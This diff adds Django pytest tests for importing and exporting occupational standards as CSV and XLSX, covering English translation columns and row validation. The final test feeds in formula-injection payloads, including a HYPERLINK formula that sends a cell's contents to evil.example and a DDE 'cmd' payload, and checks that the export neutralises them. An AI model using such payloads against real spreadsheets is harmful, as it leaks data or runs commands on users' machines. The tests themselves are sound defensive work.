@@ -342,3 +342,103 @@ def test_the_admin_export_lists_only_the_officers_country(
     response = client.get(reverse("certification_admin:standards_export", args=["csv"]))
     text = response.content.decode("utf-8-sig")
     assert "STD-A" in text and "STD-B" not in text
+
+
+ENGLISH = {
+    "standard_title_en": "Publisher",
+    "unit_title_en": "Plan",
+    "criterion_text_en": "Defines stages",
+    "evidence_text_en": "Production plan",
+}
+
+
+def _with_english(row: list[str], **values) -> list[str]:
+    named = dict(zip(HEADER, row, strict=False))
+    return [named.get(column, "") or values.get(column, "") for column in HEADER]
+
+
+@pytest.mark.parametrize("maker,name", [(as_csv, "s.csv"), (as_xlsx, "s.xlsx")])
+def test_the_english_columns_import_and_round_trip(chile_levels, maker, name):
+    rows = [_with_english(GOOD[0], **ENGLISH), *GOOD[1:]]
+    rows[1] = _with_english(
+        rows[1], standard_title_en="Publisher", unit_title_en="Plan"
+    )
+    rows[2] = _with_english(rows[2], standard_title_en="Publisher")
+    standards_import(io.BytesIO(maker(rows)), name)
+    standard = OccupationalStandard.objects.get(code="STD-A")
+    unit = standard.units.get(code="U1")
+    assert (standard.title_en, unit.title_en) == ("Publisher", "Plan")
+    assert unit.criteria.get(code="U1.1").text_en == "Defines stages"
+    assert unit.evidence_requirements.get().description_en == "Production plan"
+    exported = standards_export(OccupationalStandard.objects.all(), "csv")
+    OccupationalStandard.objects.filter(code="STD-A").update(title_en="")
+    PerformanceCriterion.objects.update(text_en="")
+    standards_import(io.BytesIO(exported), "export.csv")
+    assert OccupationalStandard.objects.get(code="STD-A").title_en == "Publisher"
+    assert PerformanceCriterion.objects.get(code="U1.1").text_en == "Defines stages"
+    assert counts() == (2, 3, 3, 2)
+
+
+def test_a_file_without_english_columns_keeps_the_stored_translations(chile_levels):
+    standards_import(io.BytesIO(as_csv([_with_english(GOOD[0], **ENGLISH)])), "s.csv")
+    old_header = [c for c in HEADER if not c.endswith("_en")]
+    buffer = io.StringIO()
+    import csv
+
+    csv.writer(buffer).writerows([old_header, GOOD[0]])
+    standards_import(io.BytesIO(buffer.getvalue().encode()), "old.csv")
+    assert OccupationalStandard.objects.get(code="STD-A").title_en == "Publisher"
+    assert PerformanceCriterion.objects.get(code="U1.1").text_en == "Defines stages"
+
+
+def test_english_text_without_its_spanish_text_is_an_error(chile_levels):
+    row = _with_english(GOOD[3], criterion_text_en="Carves")
+    with pytest.raises(ImportFailed) as failure:
+        standards_import(io.BytesIO(as_csv([row])), "s.csv")
+    assert [(e.row, e.column) for e in failure.value.errors] == [(2, "criterion_text")]
+    assert counts() == (0, 0, 0, 0)
+
+
+def test_rows_of_one_unit_must_agree_on_its_english_title(chile_levels):
+    rows = [_with_english(GOOD[0], unit_title_en="Plan"), GOOD[1]]
+    with pytest.raises(ImportFailed) as failure:
+        standards_import(io.BytesIO(as_csv(rows)), "s.csv")
+    assert [(e.row, e.column) for e in failure.value.errors] == [(3, "unit_title_en")]
+
+
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+]
+
+
+@pytest.mark.parametrize("title", FORMULA_TITLES)
+def test_a_formula_in_a_title_is_exported_as_text_and_imported_back(
+    chile_levels, title
+):
+    """A title a spreadsheet would run is written with a leading apostrophe,
+    as a text cell in XLSX; importing the export gives the title back."""
+    row = [*GOOD[3][:4], title, *GOOD[3][5:]]
+    standards_import(io.BytesIO(as_csv([row])), "s.csv")
+    assert OccupationalStandard.objects.get().title == title.strip()
+
+    exported_csv = standards_export(OccupationalStandard.objects.all(), "csv")
+    import csv
+
+    [header, cells] = list(csv.reader(io.StringIO(exported_csv.decode("utf-8-sig"))))
+    assert cells[header.index("standard_title")] == "'" + title.strip()
+
+    exported = standards_export(OccupationalStandard.objects.all(), "xlsx")
+    sheet = load_workbook(io.BytesIO(exported)).active
+    cell = sheet.cell(row=2, column=COLUMNS.index("standard_title") + 1)
+    assert cell.data_type == "s"
+    assert cell.value == "'" + title.strip()
+    for cells in sheet.iter_rows():
+        assert all(c.data_type != "f" for c in cells)
+
+    OccupationalStandard.objects.all().delete()
+    standards_import(io.BytesIO(exported), "again.xlsx")
+    assert OccupationalStandard.objects.get().title == title.strip()
